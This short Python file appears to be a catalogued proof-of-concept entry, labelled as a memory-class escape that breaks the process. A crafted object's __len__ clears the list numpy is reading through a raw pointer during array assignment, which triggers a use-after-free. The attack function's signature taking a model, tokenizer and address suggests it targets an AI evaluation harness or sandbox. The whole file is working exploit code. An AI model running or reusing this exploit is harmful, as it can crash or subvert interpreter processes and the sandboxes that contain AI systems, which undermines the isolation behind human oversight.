"""Class: memory. Source: own find. Escape: the process breaks. Items of an array are set to a list, which
numpy walks through a bare pointer; what is in it is asked for its length, which clears the list."""

import numpy as np


class Item:
    def __len__(self):
        data.clear()
        kept.append([(3,)] * 500)
        return 1

    def __getitem__(self, i):
        if i:
            raise IndexError
        return 1


kept = []
data = [Item()] + [(i,) for i in range(500)]


def attack(model, tokenizer, address):
    column = np.zeros((501, 1))
    column[:] = data
